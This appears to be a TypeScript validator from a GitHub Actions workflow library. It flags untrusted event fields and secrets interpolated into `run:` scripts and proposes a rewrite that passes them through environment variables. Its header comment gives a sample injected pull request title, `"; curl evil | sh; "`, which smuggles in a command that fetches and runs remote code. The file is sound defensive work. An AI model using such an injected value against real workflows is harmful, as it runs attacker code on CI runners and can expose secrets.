/**
 * Script injection: `${{ }}` is substituted into a `run:` script BEFORE the
 * shell reads it, so a pull request title like `"; curl evil | sh; "` becomes
 * shell code. The fix is always the same: hand the value to the script
 * through `env:` and read it as a variable, which the shell never parses as
 * code.
 *
 * The untrusted contexts are the union of GitHub's list ("Security hardening
 * for GitHub Actions: understanding the risk of script injections") and
 * actionlint's `BuiltinUntrustedInputs` (expr_insecure.go), plus what any
 * pull request author controls in the events this library supports (label
 * names, merge-queue and workflow_run head commits and branches).
 */
import { Step } from './step';
import { DOCS, seeDocs } from '../validation/docs-links';

/**
 * Paths (lowercase, `*` = any property or array element) whose values an
 * outsider can choose. An expression that reads one of these, or a whole
 * object that contains one (`toJSON(github.event.pull_request)`), is untrusted.
 */
export const UNTRUSTED_CONTEXTS: readonly string[] = [
  // GitHub's security hardening guide
  'github.event.issue.title',
  'github.event.issue.body',
  'github.event.pull_request.title',
  'github.event.pull_request.body',
  'github.event.comment.body',
  'github.event.review.body',
  'github.event.pages.*.page_name',
  'github.event.commits.*.message',
  'github.event.head_commit.message',
  'github.event.head_commit.author.email',
  'github.event.head_commit.author.name',
  'github.event.commits.*.author.email',
  'github.event.commits.*.author.name',
  'github.event.pull_request.head.ref',
  'github.event.pull_request.head.label',
  'github.event.pull_request.head.repo.default_branch',
  'github.head_ref',
  // actionlint's BuiltinUntrustedInputs adds these
  'github.event.review_comment.body',
  'github.event.discussion.title',
  'github.event.discussion.body',
  // label names (anyone who can label, and labels copied from forks)
  'github.event.label.name',
  'github.event.issue.labels.*.name',
  'github.event.pull_request.labels.*.name',
  // head commits and branches of merge queues and workflow_run
  'github.event.merge_group.head_commit.message',
  'github.event.merge_group.head_commit.author.email',
  'github.event.merge_group.head_commit.author.name',
  'github.event.workflow_run.head_branch',
  'github.event.workflow_run.display_title',
  'github.event.workflow_run.head_commit.message',
  'github.event.workflow_run.head_commit.author.email',
  'github.event.workflow_run.head_commit.author.name',
  'github.event.workflow_run.pull_requests.*.head.ref',
];

/** Functions whose result is a boolean, whatever their arguments (actionlint's list). */
const SAFE_FUNCTIONS = /\b(?:contains|startswith|endswith)\s*\(/gi;

/** One `${{ }}` expression of a script that reads something it should not. */
interface Finding {
  /** The whole `${{ ... }}` text. */
  readonly text: string;
  /** The expression inside, trimmed. */
  readonly expression: string;
  /** The offending context paths, as normalized paths (`github.event.pull_request.title`). */
  readonly contexts: string[];
  /** The environment variable the rewrite uses. */
  readonly envName: string;
}

/** Every `${{ ... }}` in `text`, with its position. */
function expressionsOf(text: string): { text: string; inner: string }[] {
  return [...text.matchAll(/\$\{\{([\s\S]*?)\}\}/g)].map((m) => ({ text: m[0], inner: m[1] }));
}

/** Removes string literals (after turning `['name']` into `.name`) and the arguments of safe functions. */
function codeOf(expression: string): string {
  let code = expression.replace(/\[\s*'((?:[^']|'')*)'\s*\]/g, (_m, name: string) => `.${name.replace(/''/g, "'")}`);
  code = code.replace(/'(?:[^']|'')*'/g, "''");
  // Drop `contains(...)`, `startsWith(...)`, `endsWith(...)` with their (balanced) arguments.
  for (let match = SAFE_FUNCTIONS.exec(code); match !== null; match = SAFE_FUNCTIONS.exec(code)) {
    let depth = 0;
    let end = match.index + match[0].length - 1;
    for (; end < code.length; end++) {
      if (code[end] === '(') depth++;
      if (code[end] === ')' && --depth === 0) break;
    }
    code = `${code.slice(0, match.index)}true${code.slice(end + 1)}`;
    SAFE_FUNCTIONS.lastIndex = match.index;
  }
  return code;
}

/** Property-access chains (`github.event.commits[0].message`) in `code`, normalized: no spaces, indexes as `*`. */
function chainsOf(code: string): string[] {
  const chain = /[A-Za-z_][A-Za-z0-9_-]*(?:\s*\.\s*(?:[A-Za-z_][A-Za-z0-9_-]*|\*)|\s*\[\s*[^\]]*\])*/g;
  return [...code.matchAll(chain)]
    // Skip what follows a `.` (the tail of a chain already read) and function names.
    .filter((m) => !/\.\s*$/.test(code.slice(0, m.index)) && !/^\s*\(/.test(code.slice(m.index + m[0].length)))
    .map((m) => m[0]
      .replace(/\s+/g, '')
      .replace(/\[[^\]]*\]/g, '.*'));
}

/** True when `path` reads an untrusted value, or an object containing one. */
function readsUntrusted(path: string, untrusted: string): boolean {
  const have = path.toLowerCase().split('.');
  const bad = untrusted.split('.');
  if (have.length > bad.length) {
    return false;
  }
  return have.every((segment, i) => segment === bad[i] || segment === '*' || bad[i] === '*');
}

/** `github.event.pull_request.head.ref` -> `PR_HEAD_REF`; `secrets.npm_token` -> `NPM_TOKEN`. */
function envNameFor(path: string): string {
  if (path.toLowerCase() === 'github.token') {
    return 'GITHUB_TOKEN';
  }
  const segments = path.toLowerCase().split('.').filter((s) => s !== '*');
  const rest = segments[0] === 'secrets' ? segments.slice(1)
    : segments[0] === 'github' && segments[1] === 'event' ? segments.slice(2)
      : segments.slice(1);
  const name = rest.map((s) => (s === 'pull_request' ? 'pr' : s)).join('_').toUpperCase().replace(/[^A-Z0-9_]/g, '_');
  return name === '' ? segments.join('_').toUpperCase().replace(/[^A-Z0-9_]/g, '_') : /^[0-9]/.test(name) ? `_${name}` : name;
}

/** The findings of one script, for `matches` (untrusted contexts or secrets). */
function findIn(script: string, matches: (chain: string) => boolean): Finding[] {
  const findings: Finding[] = [];
  const names = new Map<string, string>();
  for (const { text, inner } of expressionsOf(script)) {
    const contexts = [...new Set(chainsOf(codeOf(inner)).filter(matches))];
    if (contexts.length === 0) {
      continue;
    }
    const expression = inner.trim();
    let envName = names.get(expression);
    if (envName === undefined) {
      const base = envNameFor(contexts[0]);
      envName = base;
      for (let n = 2; [...names.values()].includes(envName); n++) {
        envName = `${base}_${n}`;
      }
      names.set(expression, envName);
    }
    findings.push({ text, expression, contexts, envName });
  }
  return findings;
}

/** A single-quoted TypeScript string literal, on one line. */
function tsString(value: string): string {
  return `'${value.replace(/\\/g, '\\\\').replace(/'/g, "\\'").replace(/\n/g, '\\n').replace(/\r/g, '\\r').replace(/\t/g, '\\t')}'`;
}

/** How the step's shell reads an environment variable. */
function variable(name: string, shell: string | undefined): string {
  const program = (shell ?? '').trim().split(/\s+/)[0].toLowerCase();
  if (program === 'pwsh' || program === 'powershell') return `$env:${name}`;
  if (program === 'cmd') return `%${name}%`;
  return `$${name}`;
}

/** `env: { A: '${{ ... }}' }, run: '...$A...'`: the rewrite, ready to paste. */
function rewrite(step: Step, findings: readonly Finding[]): string {
  let run = step.run as string;
  const env: string[] = [];
  for (const finding of findings) {
    run = run.split(finding.text).join(variable(finding.envName, step.shell));
    const entry = `${finding.envName}: ${tsString(`\${{ ${finding.expression} }}`)}`;
    if (!env.includes(entry)) {
      env.push(entry);
    }
  }
  return `env: { ${env.join(', ')} }, run: ${tsString(run)}`;
}

function list(items: readonly string[]): string {
  return items.length <= 1 ? items.join('') : `${items.slice(0, -1).join(', ')} and ${items[items.length - 1]}`;
}

/**
 * Problems with the `run` script of `step` (named `where` in messages):
 * untrusted contexts interpolated into it (unless the step opts out with
 * `allowUntrustedInterpolation`), and secrets interpolated into it (always:
 * the secret would be written into the script file on the runner).
 */
export function scriptInjectionProblems(step: Step, where: string): string[] {
  if (typeof step.run !== 'string') {
    return [];
  }
  const isUntrusted = (chain: string) =>
    step.allowUntrustedInterpolation !== true && UNTRUSTED_CONTEXTS.some((untrusted) => readsUntrusted(chain, untrusted));
  const isSecret = (chain: string) => /^secrets(\.[^.]+)?$/i.test(chain) || chain.toLowerCase() === 'github.token';
  // One rewrite for both kinds, so following either message fixes the whole script.
  const findings = findIn(step.run, (chain) => isUntrusted(chain) || isSecret(chain));
  const untrusted = [...new Set(findings.flatMap((f) => f.contexts.filter(isUntrusted)))];
  const secrets = [...new Set(findings.flatMap((f) => f.contexts.filter(isSecret)))];
  const problems: string[] = [];
  if (untrusted.length > 0) {
    problems.push(`${where} interpolates the untrusted ${list(untrusted)} into \`run\`, where whoever wrote that text can inject shell commands. ` +
      `Pass it through the environment instead: ${rewrite(step, findings)} ` +
      `(or set allowUntrustedInterpolation: true on this step if the value is known to be safe).${seeDocs(DOCS.scriptInjection)}`);
  }
  if (secrets.length > 0) {
    problems.push(`${where} interpolates ${list(secrets)} into \`run\`, which writes the secret into the script file on the runner and breaks on quotes in its value. ` +
      `Pass it through the environment instead: ${rewrite(step, findings)}.${seeDocs(DOCS.secureUse)}`);
  }
  return problems;
}
